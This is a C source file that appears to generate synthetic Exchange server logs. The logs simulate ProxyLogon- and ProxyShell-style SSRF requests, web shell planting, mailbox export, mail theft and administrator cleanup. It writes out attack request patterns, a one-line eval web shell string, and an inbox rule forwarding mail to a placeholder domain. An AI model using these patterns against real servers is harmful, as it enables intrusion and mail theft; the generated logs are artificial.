/* The steps of attacks and of what administrators do about them, as the logs
 * show them (facts/exchange.md 1.2-1.7). */
#include <stdlib.h>
#include <string.h>

#include "gen_story.h"

#define ALNUM "abcdefghijklmnopqrstuvwxyz0123456789"

enum { TEXT = 900 };

static const char *const seen_page_names[] = { "discover",   "supp0rt",     "errorEEE",
                                               "authhead",   "shellex",     "OutlookZH",
                                               "iispage",    "healthcheck", "errorFS",
                                               "fatal-erro", "one1" };

void gen_attack_init(struct gen_attack *a, struct gen_world *w, bool below_owa)
{
    struct gen_rng *rng = &w->rng;
    char word[16];
    gen_vocab_documentation_address(rng, a->attacker);
    gen_vocab_documentation_address(rng, a->visitor[0]);
    gen_vocab_documentation_address(rng, a->visitor[1]);
    gen_rng_word(rng, "abcdefghijklmnopqrstuvwxyz", word, gen_rng_range(rng, 1, 3));
    gen_text(a->front_stem, sizeof a->front_stem, "/ecp/%s.js", word);
    gen_rng_word(rng, ALNUM "ABCDEFGHJKLMNPQRSTUVWXYZ", a->canary, 42);
    gen_rng_word(rng, ALNUM, a->key, 9);
    gen_rng_word(rng, ALNUM "ABCDEFGHIJKLMNOPQRSTUVWXYZ", a->token, 160);
    gen_rng_word(rng, "abcdefghijklmnopqrstuvwxyz", word, 7);
    gen_text(a->shell_domain, sizeof a->shell_domain, "%s.example", word);
    gen_rng_word(rng, ALNUM, word, 8);
    gen_text(a->page_name, sizeof a->page_name, "%s",
             gen_rng_chance(rng, 500) ? word : GEN_PICK(rng, seen_page_names));
    a->below_owa = below_owa && gen_rng_chance(rng, 500);
    gen_text(a->page, sizeof a->page,
             a->below_owa ? "/owa/auth/%s.aspx" : "/aspnet_client/%s.aspx", a->page_name);
    a->object = gen_rng_guid(rng);
    a->victim = gen_world_user(w);
}

static void note_exploit(struct gen_story *s, const struct gen_request *r)
{
    struct gen_facts *f = &s->facts;
    if (f->first_exploit == 0)
        f->first_exploit = s->world.now;
    f->exploit_requests++;
    size_t used = strlen(f->request_ids);
    if (used + 38 < sizeof f->request_ids)
        gen_text(f->request_ids + used, sizeof f->request_ids - used, used ? ",%g" : "%g",
                 &r->id);
}

/* The public tools carry the version number of another server, 15.1.1466. */
static void claim_foreign_version(struct gen_request *r)
{
    r->target_packed = 0x73c185bau;
    r->target_version = "15.01.1466.000";
}

static void reach_of_status(struct gen_request *r, unsigned status)
{
    r->status = r->back_status = status;
    if (status != 200 && status != 241) {
        r->reach = REACH_FRONT | REACH_PROXY | REACH_CHOSEN;
        r->errors = status == 503 ? "CafeErrorPage=ServiceUnavailable;" : "RequestNotAllowed;";
    }
}

/* POST /ecp/y.js whose cookie names a path on the back end. */
void gen_step_ssrf(struct gen_story *s, const struct gen_step *step)
{
    struct gen_world *w = &s->world;
    struct gen_request r = gen_request_make(w, PROTOCOL_ECP);
    char anchor[TEXT], query[TEXT] = "", computer[64];
    if (*step->query)
        gen_text(query, sizeof query, "msExchEcpCanary=%s.&schema=%s", s->attack.canary,
                 step->query);
    gen_text(anchor, sizeof anchor, "ServerInfo~a]@%s:444%s?%s#", w->fqdn, step->path, query);
    gen_text(computer, sizeof computer, "%s\\%s$", w->vocab.netbios, w->host);
    r.stem = s->attack.front_stem;
    r.client = s->attack.attacker;
    r.agent = step->text;
    r.auth = "FBA";
    r.anchor = anchor;
    r.target = anchor + strlen("ServerInfo~");
    r.hint = "X-BEResource-Cookie";
    r.back_stem = step->path;
    r.back_query = query;
    r.back_account = computer;
    claim_foreign_version(&r);
    reach_of_status(&r, step->status);
    gen_request_emit(w, &r);
    note_exploit(s, &r);
    if (strncmp(step->query, "Reset", 5) == 0 && step->status == 200)
        s->facts.written = w->now;
}

/* The well-known version check: a path on localhost, or autodiscover only. */
void gen_step_ssrf_local(struct gen_story *s, const struct gen_step *step)
{
    struct gen_world *w = &s->world;
    struct gen_request r = gen_request_make(w, PROTOCOL_OWA);
    char anchor[TEXT];
    gen_text(anchor, sizeof anchor, "ServerInfo~%s", step->query);
    r.method = "GET";
    r.stem = step->path;
    r.client = s->attack.attacker;
    r.agent = step->text;
    r.auth = "FBA";
    r.anchor = anchor;
    r.target = anchor + strlen("ServerInfo~");
    r.hint = "X-AnonResource-Backend";
    claim_foreign_version(&r);
    reach_of_status(&r, step->status);
    r.reach &= ~(unsigned)REACH_BACK;
    gen_request_emit(w, &r);
}

void gen_step_scan(struct gen_story *s, const struct gen_step *step)
{
    struct gen_world *w = &s->world;
    struct gen_request r = gen_request_make(w, PROTOCOL_ECP);
    r.method = "GET";
    r.host = w->address;
    r.stem = step->path;
    r.client = s->attack.visitor[0];
    r.agent = step->text;
    r.auth = "FBA";
    r.anchor = "ServerVersion~Version 15.0 (Build 0.0)";
    r.hint = "EDiscoveryExportTool-ServerVersion";
    r.status = r.back_status = step->status;
    gen_request_emit(w, &r);
}

static const char *ddi_url(const struct gen_story *s, const struct gen_step *step, char *url,
                           size_t cap)
{
    return gen_text(url, cap, "/ecp/DDI/DDIService.svc/%s?msExchEcpCanary=%s.&schema=%s",
                    step->path, s->attack.canary, step->query);
}

/* step->text: the command, where %g is the directory's id and %s the server. */
void gen_step_ecp(struct gen_story *s, const struct gen_step *step)
{
    char url[TEXT], id[40], command[TEXT];
    gen_text(id, sizeof id, "%g", &s->attack.object);
    struct gen_buf b = { command, 0, sizeof command - 1 };
    for (const char *p = step->text; *p; p++) {
        if (*p == '@')
            gen_put_str(&b, id);
        else if (*p == '^')
            gen_put_str(&b, s->world.host);
        else
            gen_put_mem(&b, p, 1);
    }
    command[b.len] = '\0';
    gen_ecp_server_row(&s->world, command, ddi_url(s, step, url, sizeof url), "");
}

static void set_oab_command(struct gen_story *s, const char *value)
{
    struct gen_world *w = &s->world;
    char id[40], object[80], account[64];
    gen_text(id, sizeof id, "%g", &s->attack.object);
    gen_text(object, sizeof object, "%s\\OAB (Default Web Site)", w->host);
    gen_text(account, sizeof account, "%s\\%s", w->vocab.netbios, w->vocab.admin.login);
    const struct gen_parameter p[] = { { "ExternalUrl", value }, { "Identity", id } };
    struct gen_command c = {
        "Set-OabVirtualDirectory",   p,      2,   account, w->vocab.admin.sid, "ECP",
        "w3wp#MSExchangeECPAppPool", object, true
    };
    gen_cmdlet_row(w, &c);
    gen_audit_row(w, &c);
}

/* The value is the inert minimal form that the public reports print. The ECP
 * log doubles its double quotes, the other logs quote by their own rules. */
void gen_step_ecp_script(struct gen_story *s, const struct gen_step *step)
{
    static const char form[] = "http://f/<script language=%s runat=%s>function "
                               "Page_Load(){eval(Request[%s],%s);}</script>";
    char url[TEXT], command[TEXT], value[TEXT], key[24];
    gen_text(key, sizeof key, "\"\"%s\"\"", s->attack.key);
    gen_text(value, sizeof value, form, "\"\"JScript\"\"", "\"\"server\"\"", key,
             "\"\"unsafe\"\"");
    gen_text(command, sizeof command, "Set-OabVirtualDirectory.ExternalUrl='%s'.Identity='%g'",
             value, &s->attack.object);
    gen_ecp_server_row(&s->world, command, ddi_url(s, step, url, sizeof url), "");
    gen_text(key, sizeof key, "\"%s\"", s->attack.key);
    gen_text(value, sizeof value, form, "\"JScript\"", "\"server\"", key, "\"unsafe\"");
    set_oab_command(s, value);
}

static void page_request(struct gen_story *s, const char *method, const char *path,
                         const char *query, const char *client, const char *agent,
                         unsigned status)
{
    struct gen_world *w = &s->world;
    struct gen_request r = gen_request_make(w, PROTOCOL_OWA);
    /* Pages of aspnet_client never pass Exchange's modules: IIS only. */
    bool exchange = path[1] == 'o' || path[1] == 'e';
    r.protocol = path[1] == 'e' ? PROTOCOL_ECP : PROTOCOL_OWA;
    r.reach = exchange ? REACH_FRONT | REACH_PROXY : REACH_FRONT;
    r.tailed = exchange;
    r.method = method;
    r.auth = "FBA";
    r.stem = path;
    r.query = query;
    r.client = client;
    r.agent = agent;
    r.status = status;
    r.extra = status == 302 ? "NoCookies=302 - GET/E14AuthPost;" : "";
    gen_request_emit(w, &r);
}

/* step->path: method; step->query: "0" or "1", which visitor. */
void gen_step_page(struct gen_story *s, const struct gen_step *step)
{
    struct gen_facts *f = &s->facts;
    bool answered = step->status == 200;
    /* A missing page below /owa/auth sends to the logon page, elsewhere 404. */
    unsigned status = !answered && !s->attack.below_owa ? 404 : step->status;
    page_request(s, step->path, s->attack.page, "", s->attack.visitor[step->query[0] - '0'],
                 step->text, status);
    if (answered && f->first_answer == 0)
        f->first_answer = s->world.now;
    if (answered && step->path[0] == 'P' && f->first_post == 0)
        f->first_post = s->world.now;
    if (!answered && f->removed == 0)
        f->removed = s->world.now;
}

void gen_step_foreign(struct gen_story *s, const struct gen_step *step)
{
    page_request(s, step->query, step->path, "", s->attack.visitor[1], step->text,
                 step->status);
}

void gen_step_filtered(struct gen_story *s, const struct gen_step *step)
{
    struct gen_request r = gen_request_make(&s->world, PROTOCOL_ECP);
    r.stem = step->path;
    r.client = s->attack.attacker;
    gen_filtering_row(&s->world, &r, step->text);
}

/* ProxyShell: an address with a path in it. step->path: what lies behind. */
static struct gen_request json_request(struct gen_story *s, const struct gen_step *step,
                                       char *query, char *anchor, char *back_query,
                                       char *computer)
{
    struct gen_world *w = &s->world;
    const struct gen_attack *a = &s->attack;
    struct gen_request r = gen_request_make(w, PROTOCOL_AUTODISCOVER);
    back_query[0] = '\0';
    if (*step->query)
        gen_text(back_query, TEXT, "%s=%s", step->query, a->token);
    gen_text(query, TEXT, "@%s%s?%s&Email=autodiscover/autodiscover.json%%3F@%s",
             a->shell_domain, step->path, back_query, a->shell_domain);
    gen_text(anchor, TEXT, "Smtp~autodiscover/autodiscover.json?@%s", a->shell_domain);
    gen_text(computer, 64, "%s\\%s$", w->vocab.netbios, w->host);
    r.stem = "/autodiscover/autodiscover.json";
    r.query = query;
    r.anchor = anchor;
    r.hint = "ExplicitLogon-SMTP";
    r.client = a->attacker;
    r.agent = "python-requests/2.26.0";
    r.auth = "";
    r.back_stem = step->path;
    r.back_query = back_query;
    r.back_account = computer;
    reach_of_status(&r, step->status);
    return r;
}

void gen_step_json(struct gen_story *s, const struct gen_step *step)
{
    char query[TEXT], anchor[TEXT], back_query[TEXT], computer[64];
    struct gen_request r = json_request(s, step, query, anchor, back_query, computer);
    r.method = step->text;
    gen_request_emit(&s->world, &r);
    note_exploit(s, &r);
}

void gen_step_create_item(struct gen_story *s, const struct gen_step *step)
{
    char query[TEXT], anchor[TEXT], back_query[TEXT], computer[64];
    struct gen_request r = json_request(s, step, query, anchor, back_query, computer);
    r.database = &s->world.vocab.databases[s->attack.victim->database];
    gen_request_emit(&s->world, &r);
    note_exploit(s, &r);
    gen_ews_row(&s->world,
                &(struct gen_ews_call){ &r, s->attack.victim->mail, "CreateItem", 1450 });
}

void gen_step_mail(struct gen_story *s, const struct gen_step *step)
{
    (void)step;
    char sender[80], relay[64];
    gen_text(sender, sizeof sender, "contact@%s", s->attack.shell_domain);
    gen_text(relay, sizeof relay, "mx.%s", s->attack.shell_domain);
    struct gen_mail m = {
        sender, s->attack.victim->mail, s->attack.key, s->attack.attacker, relay, 26140, true
    };
    gen_mail_inbound(&s->world, &m);
}

static struct gen_command shell_command(const struct gen_story *s, const char *account,
                                        const char *cmdlet, const struct gen_parameter *p,
                                        unsigned count)
{
    return (struct gen_command){ cmdlet,
                                 p,
                                 count,
                                 account,
                                 s->attack.victim->sid,
                                 "Unknown",
                                 "w3wp#MSExchangePowerShellAppPool",
                                 s->attack.victim->mail,
                                 true };
}

static unsigned shell_parameters(const struct gen_story *s, const char *cmdlet,
                                 const char *file, struct gen_parameter p[4])
{
    const struct gen_user *victim = s->attack.victim;
    if (strcmp(cmdlet, "New-ManagementRoleAssignment") == 0) {
        p[0] = (struct gen_parameter){ "Role", "Mailbox Import Export" };
        p[1] = (struct gen_parameter){ "User", victim->login };
        return 2;
    }
    if (strcmp(cmdlet, "New-MailboxExportRequest") == 0) {
        p[0] = (struct gen_parameter){ "Mailbox", victim->mail };
        p[1] = (struct gen_parameter){ "FilePath", file };
        p[2] = (struct gen_parameter){ "IncludeFolders", "#Drafts#" };
        p[3] = (struct gen_parameter){ "ContentFilter", "Subject -eq 'x'" };
        return 4;
    }
    p[0] = (struct gen_parameter){ "Identity", victim->mail };
    p[1] = (struct gen_parameter){ "Confirm", "False" };
    return 2;
}

/* One request to /powershell/ and the cmdlet that came with it. */
void gen_step_shell(struct gen_story *s, const struct gen_step *step)
{
    struct gen_world *w = &s->world;
    char query[TEXT], anchor[TEXT], back_query[TEXT], computer[64], account[64], file[160];
    struct gen_request r = json_request(s, step, query, anchor, back_query, computer);
    gen_text(account, sizeof account, "%s\\%s", w->vocab.netbios, s->attack.victim->login);
    gen_text(file, sizeof file, "\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\%s.aspx",
             s->attack.page_name);
    gen_request_emit(w, &r);
    note_exploit(s, &r);
    r.back_account = account;
    gen_rps_http_row(w, &r, step->text);
    if (*step->text == '\0')
        return;
    struct gen_parameter p[4];
    unsigned count = shell_parameters(s, step->text, file, p);
    struct gen_command c = shell_command(s, account, step->text, p, count);
    gen_cmdlet_row(w, &c);
    gen_audit_row(w, &c);
    if (strcmp(step->text, "New-MailboxExportRequest") == 0)
        s->facts.written = w->now;
}

/*
 * Web services through the forged cookie: step->path the operation, step->query the bytes of
 * its answer in thousands. The back end sees the victim, since the tool speaks in his name.
 */
void gen_step_ews(struct gen_story *s, const struct gen_step *step)
{
    struct gen_world *w = &s->world;
    struct gen_request r = gen_request_make(w, PROTOCOL_ECP);
    char anchor[TEXT], computer[64];
    gen_text(anchor, sizeof anchor, "ServerInfo~a]@%s:444/EWS/Exchange.asmx?a=#", w->fqdn);
    gen_text(computer, sizeof computer, "%s\\%s$", w->vocab.netbios, w->host);
    r.stem = s->attack.front_stem;
    r.client = s->attack.attacker;
    r.agent = step->text;
    r.auth = "FBA";
    r.anchor = anchor;
    r.target = anchor + strlen("ServerInfo~");
    r.hint = "X-BEResource-Cookie";
    r.database = &w->vocab.databases[s->attack.victim->database];
    r.back_stem = "/EWS/Exchange.asmx";
    r.back_query = "";
    r.back_account = computer;
    r.response_bytes =
        (unsigned)strtoul(step->query, NULL, 10) * 1000 + gen_rng_below(&w->rng, 1000);
    claim_foreign_version(&r);
    reach_of_status(&r, step->status);
    gen_request_emit(w, &r);
    note_exploit(s, &r);
    gen_ews_row(
        w, &(struct gen_ews_call){ &r, s->attack.victim->mail, step->path, r.response_bytes });
    s->facts.stolen = w->now;
    s->facts.stolen_requests++;
    s->facts.stolen_bytes += r.response_bytes;
}

/* An archive beside the page, fetched by the page's second user. */
void gen_step_archive(struct gen_story *s, const struct gen_step *step)
{
    struct gen_facts *f = &s->facts;
    gen_text(f->archive, sizeof f->archive, "/aspnet_client/%s%s", s->attack.page_name,
             step->path);
    page_request(s, "GET", f->archive, "", s->attack.visitor[1], step->text, step->status);
    if (step->status == 200)
        f->archive_taken = s->world.now;
}

/* The victim's mail is sent on: done through the same session as the page. */
void gen_step_inbox_rule(struct gen_story *s, const struct gen_step *step)
{
    struct gen_world *w = &s->world;
    char account[64], target[80];
    (void)step;
    gen_text(account, sizeof account, "%s\\%s", w->vocab.netbios, w->vocab.admin.login);
    gen_text(target, sizeof target, "collect@%s", s->attack.shell_domain);
    const struct gen_parameter p[] = { { "Mailbox", s->attack.victim->mail },
                                       { "Name", "." },
                                       { "ForwardTo", target } };
    struct gen_command c = { "New-InboxRule",
                             p,
                             3,
                             account,
                             w->vocab.admin.sid,
                             "ECP",
                             "w3wp#MSExchangeECPAppPool",
                             target,
                             true };
    gen_cmdlet_row(w, &c);
    gen_audit_row(w, &c);
}

/* The administrator's answer: the directory is made anew from the shell. */
void gen_step_cleaning(struct gen_story *s, const struct gen_step *step)
{
    struct gen_world *w = &s->world;
    char account[64], identity[80];
    gen_text(account, sizeof account, "%s\\%s", w->vocab.netbios, w->vocab.admin.login);
    gen_text(identity, sizeof identity, "%s\\OAB (Default Web Site)", w->host);
    const struct gen_parameter p[] = {
        { step->path, step->path[0] == 'S' ? w->host : identity }, { step->query, NULL }
    };
    struct gen_command c = { step->text,
                             p,
                             *step->query ? 2 : 1,
                             account,
                             w->vocab.admin.sid,
                             "EMC",
                             "w3wp#MSExchangePowerShellAppPool",
                             identity,
                             true };
    gen_cmdlet_row(w, &c);
    gen_audit_row(w, &c);
}

void gen_step_patch(struct gen_story *s, const struct gen_step *step)
{
    (void)step;
    gen_world_set_build(&s->world, s->scenario->build, s->scenario->patched_revision);
    gen_world_restart(&s->world);
    s->facts.patched = s->world.now;
}

void gen_step_restart(struct gen_story *s, const struct gen_step *step)
{
    (void)step;
    gen_world_restart(&s->world);
}
